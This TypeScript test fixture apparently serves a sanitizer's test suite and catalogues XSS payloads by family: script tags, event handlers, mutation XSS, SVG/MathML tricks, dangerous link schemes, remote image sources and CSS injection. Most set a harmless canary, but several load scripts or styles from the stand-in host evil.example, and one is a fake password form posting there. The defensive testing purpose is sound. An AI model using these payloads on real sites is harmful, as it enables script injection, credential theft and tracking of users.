/**
 * Hostile markup, by family. Every payload that could run script sets the canary `window.__atriumPwned`
 * (or calls `alert`), so a test proves that none ran by finding the canary unset and no dialog opened.
 * Hosts outside the instance are `evil.example`: a request there is the other thing a test looks for.
 */

/** What a payload runs when it gets to run. */
export const canary = 'window.__atriumPwned=1';

/** Script tags and event handlers on every kind of element a browser fires them on. */
export const classicXss: readonly string[] = [
  `<script>${canary}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<script type="module">${canary}</script>`,
  `<img src=x onerror="${canary}">`,
  `<img src=x onerror=${canary}//`,
  `<IMG SRC=x ONERROR="${canary}">`,
  `<img src="x" onerror\t=\t"${canary}">`,
  `<body onload="${canary}">`,
  `<svg onload="${canary}">`,
  `<details open ontoggle="${canary}">`,
  `<video><source onerror="${canary}"></video>`,
  `<audio src=x onerror="${canary}">`,
  `<input autofocus onfocus="${canary}">`,
  `<select autofocus onfocus="${canary}"></select>`,
  `<textarea autofocus onfocus="${canary}"></textarea>`,
  `<marquee onstart="${canary}">news</marquee>`,
  `<iframe srcdoc="<script>parent.__atriumPwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__atriumPwned=1"></iframe>`,
  `<object data="javascript:${canary}"></object>`,
  `<embed src="javascript:${canary}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${canary}">`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<form action="https://evil.example/login"><input name="password" type="password"><button>Sign in again</button></form>`,
  `<button form="f" formaction="javascript:${canary}">Go</button>`,
  `<a href="#" onclick="${canary}" onmouseover="${canary}">hover me</a>`,
  `<p onpointerenter="${canary}" onfocusin="${canary}" tabindex="0">focus me</p>`,
  `<div onanimationstart="${canary}" style="animation:spin 1s">spin</div>`,
  `<span onbeforeinput="${canary}" contenteditable>type here</span>`,
  `<img src=x:x onerror="eval(atob('d2luZG93Ll9fYXRyaXVtUHduZWQ9MQ=='))">`,
  `<img/src=x/onerror=${canary}>`,
  `<portal src="https://evil.example/"></portal>`,
];

/** Markup whose meaning changes when it is parsed a second time (mutation XSS). */
export const mutationXss: readonly string[] = [
  `<noscript><p title="</noscript><img src=x onerror=${canary}>">`,
  `<svg><p><style><img src=x onerror=${canary}></style></p></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${canary}></style></mglyph></table></mtext></math>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${canary}>"></style></h1></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${canary}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${canary}>">`,
  `<title><img src=x onerror=${canary}></title>`,
  `<textarea></textarea><img src=x onerror=${canary}></textarea>`,
  `<xmp><img src=x onerror=${canary}></xmp>`,
  `<!--><img src=x onerror=${canary}>-->`,
  `<!-- --!><img src=x onerror=${canary}> -->`,
  `<![CDATA[><img src=x onerror=${canary}>]]>`,
  `<template><img src=x onerror=${canary}></template>`,
  `<select><template><img src=x onerror=${canary}></template></select>`,
  `<table><caption><svg><title></caption><img src=x onerror=${canary}>`,
  `<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;${canary}">entity link</a>`,
  `<div id="x"></div><img name="body" src=x onerror=${canary}>`,
  `<form id="document"><input name="cookie"></form><img id="attributes">`,
  `<svg><style>&lt;img src=x onerror=${canary}&gt;</style></svg>`,
  `<iframe><img src=x onerror=${canary}></iframe>`,
];

/** SVG and MathML, whose own ways to link and animate differ from HTML's. */
export const svgAndMathml: readonly string[] = [
  `<svg><script>${canary}</script></svg>`,
  `<svg><script href="https://evil.example/x.js"/></svg>`,
  `<svg><a xlink:href="javascript:${canary}"><text x="20" y="20">click</text></a></svg>`,
  `<svg><animate onbegin="${canary}" attributeName="x" dur="1s"/></svg>`,
  `<svg><set attributeName="href" to="javascript:${canary}"/></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${canary}"/><text y="20">x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${canary}></foreignObject></svg>`,
  `<svg><image href="https://evil.example/track.png"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${canary}'/></svg>#x"/></svg>`,
  `<svg width="99999" height="99999"><rect width="100%" height="100%" fill="red"/></svg>`,
  `<math href="javascript:${canary}">click</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${canary}">click</maction></math>`,
  `<math><mi xlink:href="data:x,<script>${canary}</script>">x</mi></math>`,
  `<math><mtext><img src=x onerror=${canary}></mtext></math>`,
  `<svg><desc><img src=x onerror=${canary}></desc></svg>`,
];

/** Link schemes that run script, open a document, or leave for an unknown place. */
export const dangerousHrefs: readonly string[] = [
  `javascript:${canary}`,
  `JaVaScRiPt:${canary}`,
  ` \t javascript:${canary}`,
  `java\tscript:${canary}`,
  `java\nscript:${canary}`,
  `&#106;avascript:${canary}`,
  `javascript&colon;${canary}`,
  `javascript:/*--></title></style></textarea></script><svg/onload=${canary}>`,
  `data:text/html,<script>${canary}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19hdHJpdW1Qd25lZD0xPC9zY3JpcHQ+`,
  `vbscript:msgbox(1)`,
  `file:///etc/passwd`,
  `//evil.example/phish`,
  `\\\\evil.example\\share`,
  `https://evil.example@127.0.0.1/`,
  `intent://evil.example#Intent;scheme=https;end`,
];

/** Image sources a post must never load: script, documents, and hosts outside the instance. */
export const dangerousImageSources: readonly string[] = [
  `<img src="javascript:${canary}">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${canary}'/>">`,
  `<img src="https://evil.example/track.png" width="1" height="1">`,
  `<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">`,
  `<picture><source srcset="https://evil.example/p.png"><img src="x"></picture>`,
  `<input type="image" src="https://evil.example/i.png">`,
  `<video poster="https://evil.example/poster.png"></video>`,
  `<table background="https://evil.example/bg.png"><tr><td>table</td></tr></table>`,
  `<img src="//evil.example/protocol-relative.png">`,
  `<img src="x" style="background:url(https://evil.example/css.png)">`,
  `<image src="https://evil.example/image-tag.png">`,
  `<img src="http://127.0.0.1:1/closed-port.png">`,
];

/** Style that hides, overlays, restyles the app, or phones home through CSS. */
export const cssInjection: readonly string[] = [
  `<style>body{display:none}</style>`,
  `<style>@import url(https://evil.example/x.css);</style>`,
  `<style>*{background:url(https://evil.example/leak.png)!important}</style>`,
  `<span style="position:fixed;inset:0;z-index:99999;background:#c00;color:#fff;font-size:120px">OVERLAY</span>`,
  `<div style="width:100000px;height:100000px">huge box</div>`,
  `<span style="font-size:9999px">giant</span>`,
  `<p style="background-image:url(javascript:${canary})">bg</p>`,
  `<p style="behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml#x)">binding</p>`,
  `<p style="x:expression(${canary})">expression</p>`,
  `<p class="visually-hidden invisible mention hashtag">classes</p>`,
  `<p class="card article feed">app classes</p>`,
  `<p dir="rtl" style="direction:rtl;unicode-bidi:bidi-override">reversed by style</p>`,
];
